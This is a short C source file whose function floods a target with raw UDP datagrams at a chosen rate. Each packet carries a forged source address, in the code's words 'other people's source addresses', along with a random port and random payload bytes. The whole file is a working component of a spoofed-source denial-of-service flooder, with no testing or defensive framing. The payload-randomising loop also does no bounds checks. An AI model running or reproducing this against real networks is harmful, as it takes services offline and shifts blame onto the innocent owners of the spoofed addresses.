/* Datagrams with other people's source addresses, so many a second. Needs CAP_NET_RAW. */
#define _GNU_SOURCE
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdint.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define TOGETHER 64
#define LONGEST 1024
#define NANO 1000000000ULL

struct packet {
    struct iphdr ip;
    struct udphdr udp;
    uint8_t payload[LONGEST];
} __attribute__((packed));

static uint64_t now_ns(void) {
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (uint64_t)now.tv_sec * NANO + (uint64_t)now.tv_nsec;
}

/* xorshift64* */
static uint64_t next_random(uint64_t *state) {
    *state ^= *state >> 12;
    *state ^= *state << 25;
    *state ^= *state >> 27;
    return *state * 2685821657736338717ULL;
}

/*
 * Send until ``stop`` is readable. ``from`` and ``mask``: network of the source addresses; every
 * datagram has another one, another port and another ``random_bytes`` at ``random_at`` of its
 * payload. How many were sent, or a negative errno.
 */
int64_t flood_run(
    int raw, int stop, const struct sockaddr_in *to, uint32_t from, uint32_t mask,
    const uint8_t *payload, uint32_t length, uint32_t random_at, uint32_t random_bytes,
    uint64_t rate);
int64_t flood_run(
    int raw, int stop, const struct sockaddr_in *to, uint32_t from, uint32_t mask,
    const uint8_t *payload, uint32_t length, uint32_t random_at, uint32_t random_bytes,
    uint64_t rate) {
    static struct packet packets[TOGETHER];
    struct iovec pieces[TOGETHER];
    struct mmsghdr messages[TOGETHER];
    uint64_t state = now_ns() | 1;
    if (length > LONGEST) {
        return -EMSGSIZE;
    }
    const size_t size = sizeof(struct iphdr) + sizeof(struct udphdr) + length;
    memset(messages, 0, sizeof messages);
    for (int i = 0; i < TOGETHER; i++) {
        struct packet *packet = &packets[i];
        packet->ip = (struct iphdr){
            .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP,
            .tot_len = htons((uint16_t)size), .daddr = to->sin_addr.s_addr};
        packet->udp = (struct udphdr){
            .dest = to->sin_port, .len = htons((uint16_t)(sizeof packet->udp + length))};
        memcpy(packet->payload, payload, length);
        pieces[i] = (struct iovec){packet, size};
        messages[i].msg_hdr = (struct msghdr){
            .msg_name = (void *)(uintptr_t)to, .msg_namelen = sizeof *to, .msg_iov = &pieces[i],
            .msg_iovlen = 1};
    }
    int64_t sent = 0;
    uint64_t due_ns = now_ns();
    struct pollfd over = {.fd = stop, .events = POLLIN};
    while (poll(&over, 1, 0) == 0) {
        for (int i = 0; i < TOGETHER; i++) {
            const uint64_t random = next_random(&state);
            packets[i].ip.saddr = htonl((from & mask) | ((uint32_t)random & ~mask));
            packets[i].udp.source = htons((uint16_t)(1024 + (random >> 32) % 60000));
            for (uint32_t b = 0; b < random_bytes; b += sizeof state) {
                const uint64_t more = next_random(&state);
                memcpy(packets[i].payload + random_at + b, &more, sizeof more);
            }
        }
        const int done = sendmmsg(raw, messages, TOGETHER, 0);
        if (done < 0 && errno != ENOBUFS && errno != EAGAIN && errno != EINTR) {
            return -errno;
        }
        sent += done > 0 ? done : 0;
        due_ns += TOGETHER * NANO / rate;
        const uint64_t now = now_ns();
        if (now < due_ns) {
            const struct timespec left = {0, (long)(due_ns - now)};
            nanosleep(&left, NULL);
        } else if (now - due_ns > NANO / 10) {
            due_ns = now; /* it cannot keep up: no bursts */
        }
    }
    return sent;
}
